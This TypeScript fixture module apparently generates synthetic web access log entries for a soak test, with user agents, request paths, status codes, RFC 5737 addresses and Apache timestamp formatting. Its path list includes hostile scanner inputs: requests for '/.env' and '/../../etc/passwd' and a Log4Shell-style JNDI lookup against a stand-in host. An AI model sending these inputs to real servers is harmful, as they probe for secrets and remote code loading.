import type { Random } from "../../soak/random";

export const ACCOUNT = "111111111111";
export const REGION = "eu-central-1";

export const USER_AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "curl/8.5.0",
  "python-requests/2.32.3",
  "-",
];

/** Web servers see these, as people and scanners type them. */
export const PATHS = [
  "/",
  "/index.html",
  "/login?next=%2Faccount%2Forders",
  "/products/4711?colour=gr%C3%BCn&size=XL",
  "/search?q=k%C3%A4se+%22alt%22&page=2",
  "/api/v2/orders/9f1c?expand=lines,customer",
  "/static/app.3c74189a.js",
  "/images/caf\u00e9 noir.png",
  "/favicon.ico",
  "/wp-login.php",
  "/.env",
  "/../../etc/passwd",
  "/?x=${jndi:ldap://192.0.2.1/a}",
];

export const REFERERS = ["-", "-", "https://shop.example.com/", "https://www.example.org/search?q=logs&hl=de"];
export const METHODS = ["GET", "GET", "GET", "GET", "POST", "PUT", "HEAD", "DELETE", "OPTIONS"];
export const STATUSES = [200, 200, 200, 200, 204, 301, 304, 400, 403, 404, 404, 499, 500, 502, 503];

/** A documentation address (RFC 5737), or one of a private network. */
export const ipv4 = (random: Random): string =>
  random.pick(["192.0.2.", "198.51.100.", "203.0.113.", "10.0.17."]) + random.integer(1, 254);

/** An address for documentation (RFC 3849). */
export const ipv6 = (random: Random): string => `2001:db8:${hex(random, 4)}::${hex(random, 2)}`;

export const port = (random: Random): number => random.integer(1024, 65_535);

/** `count` characters out of `alphabet`. */
export const characters = (random: Random, alphabet: string, count: number): string =>
  Array.from({ length: count }, () => random.pick([...alphabet])).join("");

export const hex = (random: Random, count: number): string => characters(random, "0123456789abcdef", count);

export const upper = (random: Random, count: number): string =>
  characters(random, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", count);

/** Random bytes in Base64. */
export const base64 = (random: Random, bytes: number): string =>
  Buffer.from(Array.from({ length: bytes }, () => random.integer(0, 255))).toString("base64");

export const uuid = (random: Random): string => [8, 4, 4, 4, 12].map((count) => hex(random, count)).join("-");

/** Seconds with `digits` behind the point. */
export const seconds = (random: Random, most: number, digits = 3): string => (random.next() * most).toFixed(digits);

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** As Apache writes it: 21/Nov/2026:03:00:00 +0000 */
export function clfTime(time: Date): string {
  const [date, clock] = isoSeconds(time).slice(0, -1).split("T") as [string, string];
  const [year, month, day] = date.split("-") as [string, string, string];
  return `${day}/${MONTHS[Number(month) - 1]}/${year}:${clock} +0000`;
}

/** 2026-11-21T03:00:00Z */
export const isoSeconds = (time: Date): string => `${time.toISOString().slice(0, 19)}Z`;
